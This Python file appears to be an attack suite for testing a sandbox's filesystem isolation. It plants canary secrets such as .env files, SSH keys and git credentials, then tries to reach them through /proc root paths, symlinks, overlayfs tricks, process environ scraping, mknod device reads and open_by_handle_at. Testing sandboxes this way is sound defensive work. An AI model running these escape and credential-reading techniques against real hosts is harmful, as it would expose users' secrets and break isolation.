# SPDX-License-Identifier: Apache-2.0
"""Attacks on the third control: files of the host are neither read nor written."""

import os
import subprocess
from collections.abc import Callable, Mapping


import lib
from attacks.engine import Attack, Outcome, ROOT_ONLY, World, token_if_done

# Ways to the same file that a careless sandbox leaves open.
READ = '''
ways = ["", "/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../../../../../..", "/../../..",
        "/workspace/../..", "/proc/%d/root" % os.getppid(), "/proc/thread-self/root", "/run/scratch/lower"]
for path in P["paths"]:
    for way in ways:
        attempt(show, way + path)
    attempt(lambda: (os.symlink(path, P["link"]), show(P["link"])))
    attempt(lambda: os.unlink(P["link"]))
    attempt(lambda: (os.link(path, P["link"]), show(P["link"])))
    attempt(lambda: os.unlink(P["link"]))
'''


def reading(*names: str) -> Callable[[World], lib.Json]:
    """The token in a file of the user, below the home ("~/...") or anywhere."""

    def plant(world: World) -> lib.Json:
        paths = []
        for name in names:
            name = name.replace("~", world.box.home).replace("TOKEN", world.mark)
            if name.startswith("/root") and world.box.who == "user":
                continue
            paths.append(world.plant_file(name, mode=0o600))
        return {"paths": paths, "link": f"/tmp/link-{world.mark}"}

    return plant


SECRETS = {
    ".env": "KEY={}\n", ".env.local": "KEY={}\n", "sub/.env": "KEY={}\n",
    "id_rsa": "-----BEGIN OPENSSH PRIVATE KEY-----\n{}\n", "deploy/key.pem": "-----BEGIN PRIVATE KEY-----\n{}\n",
    ".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\n{}\n",
    ".git/config": '[remote "origin"]\n\turl = https://me:{}@example.org/x.git\n',
    "sub/.git/config": '[http]\n\textraheader = AUTHORIZATION: basic {}\n',
    ".snipara/token": "{}\n",
}


def project(world: World, names: Mapping[str, str] = SECRETS) -> lib.Json:
    """A project with secrets, and links to them."""
    for name, text in names.items():
        world.plant_file("project/" + name, text.format(world.token))
    world.plant_file("project/readme.txt", "nothing\n")
    world.plant_file("project/source.py", "x = 1\n")
    world.plant_file("beside.txt")
    for name, target in {"a.txt": ".env", "b.txt": "../beside.txt", "c.txt": world.path("beside.txt"),
                         "d": "..", "e.txt": world.plant_file(world.box.home + "/.netrc")}.items():
        os.symlink(target, world.path("project/" + name))
    world.state["cwd"] = world.path("project")
    world.exec_args["options"] = ["--project", world.path("project")]
    return {"top": world.path("project")}


def digest(world: World) -> list[tuple[str, int, bytes]]:
    """All names, kinds, modes and bytes of the planted project."""
    rows = []
    top = world.path("project")
    for folder, folders, names in os.walk(top):
        for name in sorted(folders + names):
            path = os.path.join(folder, name)
            data = b""
            if os.path.isfile(path) and not os.path.islink(path):
                with open(path, "rb") as file:
                    data = file.read()
            rows.append((os.path.relpath(path, top), os.lstat(path).st_mode, data))
    return sorted(rows)


def project_to_change(world: World) -> lib.Json:
    planted = project(world, {})
    world.state["before"] = digest(world)
    return planted


def is_changed(world: World, _outcome: Outcome) -> bool:
    return bool(digest(world) != world.state["before"])


SYSTEM_PLACES = ["/usr/local/lib/", "/usr/lib/python3/", "/usr/lib/python3/dist-packages/", "/etc/", "/etc/python3/",
                 "/run/guest/", "/run/", "/", "/home/", "/root/", "/var/tmp/", "/dev/"]


def places(world: World) -> lib.Json:
    """Outside, only the first place is tried, so that nothing of the host is touched."""
    if world.inside:
        listed = [world.folder + "/", world.box.home + "/", world.box.bin + "/guest/", *SYSTEM_PLACES]
    else:
        listed = [world.folder + "/"]
    world.state["written"] = [place + world.mark for place in listed]
    world.state["mode"] = os.stat("/usr").st_mode
    return {"paths": world.state["written"], "inside": world.inside}


def is_written(world: World, _outcome: Outcome) -> bool:
    is_changed = os.stat("/usr").st_mode != world.state["mode"]
    return is_changed or any(os.path.lexists(path) for path in world.state["written"])


def planted_environment(world: World) -> lib.Json:
    world.state["env"] = {"SNP_CANARY": world.token}
    return {}


def planted_descriptor(world: World) -> lib.Json:
    path = world.plant_file("open.txt", mode=0o600)
    fd = os.open(path, os.O_RDWR)
    world.cleanups.append(lambda: os.close(fd))
    world.popen_args["pass_fds"] = [fd]
    world.exec_args["pass_fds"] = [fd]
    return {}


def other_process(world: World) -> lib.Json:
    """A process of the user that has the token in its memory, environment and arguments."""
    victim = world.plant_process("/usr/bin/python3", "-c", "import sys, time; print(1, flush=True); time.sleep(600)",
                                 world.token, env={"SECRET": world.token}, stdout=subprocess.PIPE)
    with lib.some(victim.stdout) as output:
        output.read(2)
    return {"pid": victim.pid}


def other_session(world: World) -> lib.Json:
    """Another session that holds the token in its files and memory. Outside: a process with such files."""
    code = f'''
import os
t = {world.token!r}
for folder in ("/tmp", "/dev/shm", "/workspace"):
    if os.path.isdir(folder) and os.access(folder, os.W_OK):
        with open(folder + "/{world.mark}", "w") as out:
            out.write(t)
'''
    session = f"other-{world.mark}"
    if world.inside:
        world.box.exec(code, session=session)
        world.cleanups.append(lambda: world.box.destroy(session))
    else:
        world.box.outside(code)
        for path in ("/tmp/" + world.mark, "/dev/shm/" + world.mark):
            world.remove_later(path)
    return {"names": [world.mark]}


def devices(world: World) -> lib.Json:
    """The kernel's log, memory and disks; root may read them."""
    numbers = [[0o20600, 1, 11], [0o20600, 1, 1]]
    with open("/proc/partitions") as table:
        for line in table.read().splitlines()[2:]:
            numbers.append([0o60600, *map(int, line.split()[:2])])
    return {"numbers": numbers, "token": world.token, "folders": ["/tmp", "/dev/shm", "/workspace", world.folder]}


ATTACKS = [
    Attack("files of /proc that tell of the host", "filesystem",
           "one besides those that programs need is not empty, or can be written", '''
shown = "self thread-self mounts net sys cpuinfo stat meminfo uptime loadavg version filesystems".split()
for name in set(os.listdir("/proc")) - set(shown):
    def look(path="/proc/" + name):
        for inner in os.listdir(path) if os.path.isdir(path) else ():
            tell(P["token"], path, inner)
        with open(path, "rb", buffering=0) as file:
            text = file.read(1000)
            if text:
                tell(P["token"], path, text)
    if not name.isdigit() and name not in ("kmsg", "kcore"):
        attempt(look)
def set_trigger():
    with open("/proc/pressure/memory", "w") as file:
        file.write("some 150000 2000000")
    tell(P["token"], "a trigger")
attempt(set_trigger)
''', token_if_done, won_in_own_kernel=lambda _world, out: open("/proc/cmdline").read().strip() in out.text),
    Attack("read a file of the home folder", "filesystem", "bytes of a planted file",
           READ, reading("~/secret-TOKEN.txt", "/root/secret-TOKEN.txt")),
    Attack("read the user's ssh key", "filesystem", "bytes of a planted key",
           READ, reading("~/.ssh/id_rsa", "~/.ssh/config")),
    Attack("read a file in /tmp", "filesystem", "bytes of a planted file",
           READ, reading("/tmp/secret-TOKEN.txt", "/dev/shm/secret-TOKEN.txt", "/var/tmp/secret-TOKEN.txt")),
    Attack("read the state of the runtime", "filesystem", "bytes planted in its folders", READ,
           lambda world: reading(world.box.state + "/secret-TOKEN", world.box.runtime + "/secret-TOKEN")(world)),
    Attack("read secrets of the project", "filesystem", "the token in .env, keys and credentials", '''
for top in (P["top"], "/workspace", "/workspace/sub", "/proc/1/root/workspace", "/run/scratch", "/proc/self/cwd"):
    attempt(show_below, top)
    for name in (".env", "id_rsa", ".git/config", "a.txt", "b.txt", "c.txt", "d/beside.txt", "e.txt", ".snipara/token"):
        attempt(show, os.path.join(top, name))
''', project),
    Attack("uncover what the project's mask hides", "filesystem", "the token in .env", '''
top = "/workspace" if os.path.isdir("/workspace") else P["top"]
os.chdir(top)
def uncover():
    open(".env.new", "w").close()
    os.rename(".env.new", ".env")
    os.unlink(".env")
attempt(lambda: os.unlink(".git/config"))
attempt(show, ".git/config")
attempt(uncover)
attempt(show, ".env")
attempt(os.rename, "sub", "moved")
attempt(os.rename, ".git", "git")
for name in (b"user.overlay.redirect", b"user.overlay.opaque", b"user.overlay.whiteout", b"user.overlay.metacopy"):
    attempt(os.mkdir, b"x-" + name)
    attempt(os.setxattr, b"x-" + name, name, b"/")
    attempt(os.setxattr, b".", name, b"n")
    attempt(os.removexattr, b".", name)
mount = libc.mount
tell(mount(b"overlay", b"/tmp", b"overlay", 0, b"lowerdir=/workspace"), mount(b"/workspace", b"/tmp", None, 4096, None))
tell(call(428, -100, b"/workspace", 1 | 0x80000), call(430, b"overlay", 0))
show_below(top)
''', project),
    Attack("write to the project", "filesystem", "bytes, names and modes of its files", '''
for top in (P["top"], "/workspace"):
    def write(name, flags):
        fd = os.open(os.path.join(top, name), flags)
        os.write(fd, b"changed")
        os.close(fd)
    attempt(write, "source.py", os.O_WRONLY | os.O_TRUNC)
    attempt(write, "readme.txt", os.O_RDWR)
    attempt(write, "new.txt", os.O_RDWR | os.O_CREAT)
    attempt(os.chmod, os.path.join(top, "source.py"), 0o777)
    attempt(os.rename, os.path.join(top, "readme.txt"), os.path.join(top, "other.txt"))
    attempt(os.unlink, os.path.join(top, "source.py"))
    attempt(os.mkdir, os.path.join(top, "folder"))
''', project_to_change, is_changed),
    Attack("write to the host", "filesystem", "a file with our name is there afterwards", '''
for path in P["paths"]:
    for way in ("", "/proc/1/root", "/proc/self/root", "/workspace/../../.."):
        def write():
            with open(way + path, "w") as out:
                out.write("was here")
        attempt(write)
if P["inside"]:
    attempt(os.chmod, "/usr", 0o777)
    for flags in (32 | 4096, 32):
        tell(libc.mount(None, b"/usr", None, flags, None), libc.mount(None, b"/", None, flags, None))
    attempt(lambda: open(os.path.join("/usr", os.path.basename(P["paths"][0])), "w").close())
''', places, is_written),
    Attack("the host's environment", "filesystem", "a variable that was given to the programs", '''
tell(dict(os.environ))
for name in os.listdir("/proc"):
    if name.isdigit():
        attempt(show, "/proc/" + name + "/environ")
''', planted_environment),
    Attack("inherited descriptors", "filesystem", "bytes of a file that was open in the caller", '''
for fd in range(3, 1024):
    try:
        tell(fd, os.readlink("/proc/self/fd/%d" % fd), os.pread(fd, 4096, 0))
    except OSError:
        pass
''', planted_descriptor),
    Attack("other processes in /proc", "filesystem", "arguments and environment of a planted process", '''
for name in os.listdir("/proc") + [str(P["pid"])]:
    if name.isdigit():
        for part in ("cmdline", "environ"):
            attempt(show, "/proc/%s/%s" % (name, part))
''', other_process),
    Attack("files of another session", "filesystem", "the token it wrote", '''
tops = ["/tmp", "/dev/shm", "/workspace"]
tops += ["/proc/%s/root%s" % (pid, top) for pid in os.listdir("/proc") if pid.isdigit() for top in tops[:3]]
for top in tops:
    for name in P["names"]:
        attempt(show, os.path.join(top, name))
''', other_session),
    Attack("a device of one's own", "filesystem", "the kernel's log or a disk can be read", '''
for mode, major, minor in P["numbers"]:
    for folder in P["folders"]:
        def read():
            path = os.path.join(folder, "device-" + P["mark"])
            os.mknod(path, mode, os.makedev(major, minor))
            try:
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                if os.read(fd, 8192):
                    tell(P["token"])
            finally:
                os.unlink(path)
        attempt(read)
''', devices, no_control={"user": ROOT_ONLY}),
    Attack("open a file by its handle", "filesystem", "bytes of a planted file", '''
class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
handle, mount = Handle(128), ctypes.c_int()
if P["handle"]:
    handle = Handle.from_buffer_copy(bytes.fromhex(P["handle"]))
fds = []
for top in (P["folder"], "/usr", "/workspace", "/run/guest", "/"):
    attempt(lambda: fds.append(os.open(top, os.O_RDONLY)))
for top in fds:
    fd = call(304, top, ctypes.byref(handle), os.O_RDONLY)
    if fd >= 0:
        tell(os.read(fd, 4096))
''', lambda world: {"handle": handle_of(world.plant_file("handle.txt")), "folder": world.folder},
           no_control={"user": ROOT_ONLY}),
]


def handle_of(path: str) -> str:
    """name_to_handle_at for a file, as the attacker may have guessed it; hexadecimal."""
    import ctypes

    buffer = ctypes.create_string_buffer(136)
    ctypes.memmove(buffer, (128).to_bytes(4, "little"), 4)
    mount = ctypes.c_int()
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.name_to_handle_at(-100, path.encode(), buffer, ctypes.byref(mount), 0) < 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    return buffer.raw.hex()
